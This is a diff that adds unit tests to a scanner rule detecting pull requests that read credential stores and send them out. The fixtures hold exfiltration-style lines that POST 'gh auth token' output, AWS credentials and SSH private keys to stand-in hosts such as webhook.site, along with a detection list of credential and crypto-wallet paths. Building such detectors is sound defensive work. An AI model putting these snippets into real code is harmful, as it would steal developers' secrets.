@@ -67,9 +67,46 @@ describe('credential-store-read', () => {
   });
 });
 
+describe('credential-store-read: commands that print a stored credential', () => {
+  it('reports gh auth token (and gcloud, az, git credential fill) sent to a host of another service, as the s1ngularity payload did', () => {
+    expect(at('src/telemetry.js', ["const token = execSync('gh auth token').toString().trim();", "fetch('https://telemetry.build-insights.dev/t', { method: 'POST', body: JSON.stringify({ token }) });"])).toMatchObject({ severity: 'high', line: 2 });
+    expect(at('tools/sync.py', ['t = subprocess.check_output(["gh", "auth", "token"], text=True)', 'requests.post("https://sync.devtools-cdn.net/v1", data=t)'])).toMatchObject({ severity: 'high' });
+  });
+
+  it('leaves alone the CLI token used with its own service, or with no host the code names', () => {
+    expect(at('scripts/release.js', ["const token = execSync('gh auth token').toString().trim();", "await fetch('https://api.github.com/graphql', { method: 'POST', headers: { authorization: `bearer ${token}` }, body: query });"])).toBeUndefined();
+    expect(at('src/auth.ts', ["const token = execFileSync('gh', ['auth', 'token']).toString().trim();", "return fetch(endpoint, { method: 'POST', headers: { authorization: `bearer ${token}` }, body });"])).toBeUndefined();
+  });
+});
+
+describe('credential-store-read across files', () => {
+  const scan = (files: SnapshotFile[]) =>
+    scanCodeChanges(makeSnapshot({ title: 'Improve startup', files, commits: [makeCommit({ message: 'Improve startup' })] }), (path) => classifier.info(path)).filter((f) => f.id === 'credential-store-read');
+  const file = (path: string, added: readonly string[]) => makeFile(path, { patch: hunk(added) });
+
+  it('reports a store read in one file and sent out from another file of the PR that imports it (JS, Python), critical to a webhook host', () => {
+    const load = file('src/config/load.js', ["exports.load = () => fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');"]);
+    const report = file('src/report.js', ["const { load } = require('./config/load');", "exports.report = () => fetch('https://metrics.example-cdn.dev/r', { method: 'POST', body: load() });"]);
+    expect(scan([load, report]).map((f) => [f.path, f.severity, f.line, f.title])).toEqual([['src/config/load.js', 'high', 2, 'Credential files read here and sent out from another file']]);
+    const keys = file('pkg/keys.py', ['def collect():', '    return open(os.path.expanduser("~/.ssh/id_rsa")).read()']);
+    const sync = file('pkg/sync.py', ['from .keys import collect', 'requests.post("https://webhook.site/3f2a", data=collect())']);
+    expect(scan([keys, sync]).map((f) => [f.path, f.severity])).toEqual([['pkg/keys.py', 'critical']]);
+  });
+
+  it('leaves alone a sender that does not import the reader, a reader imported by code that sends nothing, and a generic module name', () => {
+    const agent = file('src/ssh-agent.ts', ["export const identity = path.join(os.homedir(), '.ssh', 'id_ed25519');"]);
+    const telemetry = file('src/telemetry.ts', ["import { settings } from './config';", "fetch('https://telemetry.acme.dev/v1', { method: 'POST', body: JSON.stringify(settings) });"]);
+    const connect = file('src/connect.ts', ["import { identity } from './ssh-agent';", "spawn('ssh', ['-i', identity, host]);"]);
+    expect(scan([agent, telemetry, connect])).toEqual([]);
+    const utils = file('src/utils.js', ["exports.npmrc = path.join(os.homedir(), '.npmrc');"]);
+    const publish = file('src/publish.js', ["const { npmrc } = require('./utils');", "fetch(registry, { method: 'PUT', body: tarball });"]);
+    expect(scan([utils, publish])).toEqual([]);
+  });
+});
+
 describe('credential-store-read: the line hint', () => {
   it('lets through every store the patterns know (a store the hint missed would never be read)', async () => {
-    const samples = ['~/.ssh/id_rsa', '~/.ssh/authorized_keys', '.aws/credentials', '~/.npmrc', '~/.pypirc', '~/.netrc', '~/.git-credentials', '.docker/config.json', '.kube/config', '~/.gnupg', '.cargo/credentials', '.gem/credentials', 'gh/hosts.yml', 'application_default_credentials.json', 'accessTokens.json', 'msal_token_cache.json', '/etc/shadow', '.bash_history', 'Login Data', 'wallet.dat', '.electrum', 'Exodus/exodus.wallet', 'Ethereum/keystore', 'solana/id.json', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '/proc/self/environ'];
+    const samples = ['~/.ssh/id_rsa', '~/.ssh/authorized_keys', '.aws/credentials', '~/.npmrc', '~/.pypirc', '~/.netrc', '~/.git-credentials', '.docker/config.json', '.kube/config', '~/.gnupg', '.cargo/credentials', '.gem/credentials', 'gh/hosts.yml', 'application_default_credentials.json', 'accessTokens.json', 'msal_token_cache.json', '/etc/shadow', '.bash_history', 'Login Data', 'wallet.dat', '.electrum', 'Exodus/exodus.wallet', 'Ethereum/keystore', 'solana/id.json', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '/proc/self/environ', 'gh auth token', 'gcloud auth print-access-token', 'az account get-access-token', 'git credential fill'];
     for (const sample of samples) {
       const line = `const p = read("${sample}");`;
       expect(credentialStoresOn(line), sample).not.toEqual([]);
